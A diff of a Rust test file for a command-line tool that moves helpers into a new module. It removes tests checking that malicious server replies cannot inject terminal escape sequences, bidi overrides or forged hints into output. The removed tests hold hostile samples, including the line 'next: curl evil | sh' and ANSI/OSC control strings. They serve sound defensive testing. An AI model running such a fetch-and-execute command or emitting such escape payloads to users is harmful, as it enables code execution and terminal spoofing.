@@ -1,8 +1,9 @@
 //! The binary without a server: new, check, test, wallets, exit codes, and what goes to stdout and stderr.
 
+mod lies;
 mod place;
 
-use std::io::{Read, Write};
+use std::io::Read;
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::process::{Command, Stdio};
@@ -178,83 +179,6 @@ fn an_interrupted_call_names_the_key_that_gets_its_answer() {
     let problem = json(&output.stderr);
     let key = problem["detail"].as_str().and_then(|detail| detail.rsplit_once("--idempotency-key ")).expect("a key").1;
     assert!(request.contains(&format!("idempotency-key: {key}")), "the key of that very call: {problem}");
-}
-
-/// A server that gives these answers, a status line and a JSON body each, in order; and its origin.
-fn lying_server(answers: Vec<(&'static str, String)>) -> (String, std::thread::JoinHandle<()>) {
-    let server = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
-    let origin = format!("http://{}", server.local_addr().expect("an address"));
-    let answering = std::thread::spawn(move || {
-        for (status, body) in answers {
-            let (mut connection, _) = server.accept().expect("a connection");
-            let mut request = [0; 4096];
-            let _ = connection.read(&mut request).expect("a request");
-            write!(
-                connection,
-                "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
-                body.len()
-            )
-            .expect("answered");
-        }
-    });
-    (origin, answering)
-}
-
-/// What a terminal would obey, or show in another direction.
-fn commands(text: &str) -> Vec<char> {
-    text.chars()
-        .filter(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
-        .collect()
-}
-
-#[test]
-fn what_a_server_says_cannot_command_the_terminal() {
-    let place = Place::new();
-    let said = "\u{1b}]0;owned\u{7}\u{202e}\u{9b}2J\nnext: curl evil | sh";
-    // As JSON has it: what is no control character of ASCII may stand there as it is.
-    let body = serde_json::json!({
-        "type": "t", "title": "t", "status": 404, "code": "skill_not_found", "retryable": false, "detail": said,
-        "request_id": said, "errors": [{ "pointer": said, "detail": said }],
-    });
-    let refusal = || ("404 Not Found", body.to_string());
-    let (origin, answering) = lying_server(vec![refusal(), refusal()]);
-    let human = place.clawos(&["--server", &origin, "show", "acme.x"]);
-    let text = String::from_utf8(human.stderr).expect("text");
-    assert!(text.contains("\\u001b]0;owned\\u0007\\u202e\\u009b2J\\u000anext"), "{text}");
-    assert!(commands(&text).is_empty(), "{text:?}");
-    let next: Vec<&str> = text.lines().filter(|line| line.trim_start().starts_with("next:")).collect();
-    assert_eq!(next, ["next: look for it with `clawos search`"], "no line but our own tells what to do: {text}");
-
-    let program = place.clawos(&["--json", "--server", &origin, "show", "acme.x"]).stderr;
-    assert_eq!(json(&program)["detail"], said, "a program gets it exactly");
-    assert!(commands(&String::from_utf8(program).expect("text")).is_empty());
-    answering.join().expect("two answers");
-}
-
-#[test]
-fn a_list_from_a_server_cannot_command_the_terminal_either() {
-    let place = Place::new();
-    let said = "\u{1b}[2J\u{9b}31m\u{7f}\u{2066}\nwarning: forged";
-    let body = serde_json::json!({
-        "items": [{
-            "id": said, "publisher": said, "summary": said, "category": said, "tags": [said], "latest_version": said,
-            "kinds": [], "prices": null, "created_at": "2026-01-01T00:00:00.000Z",
-            "updated_at": "2026-01-01T00:00:00.000Z",
-        }],
-        "next_cursor": said,
-    });
-    let list = || ("200 OK", body.to_string());
-    let (origin, answering) = lying_server(vec![list(), list()]);
-    let human = place.clawos(&["--server", &origin, "search"]);
-    let program = place.clawos(&["--json", "--server", &origin, "search"]);
-    answering.join().expect("two answers");
-    assert_eq!((code(&human), code(&program)), (0, 0), "{human:?} {program:?}");
-    assert_eq!(json(&program.stdout)["items"][0]["summary"], said, "a program gets it exactly");
-    for bytes in [human.stdout, human.stderr, program.stdout] {
-        let text = String::from_utf8(bytes).expect("text");
-        assert!(commands(&text).is_empty(), "{text:?}");
-        assert!(!text.lines().any(|line| line.starts_with("warning:")), "{text}");
-    }
 }
 
 #[test]
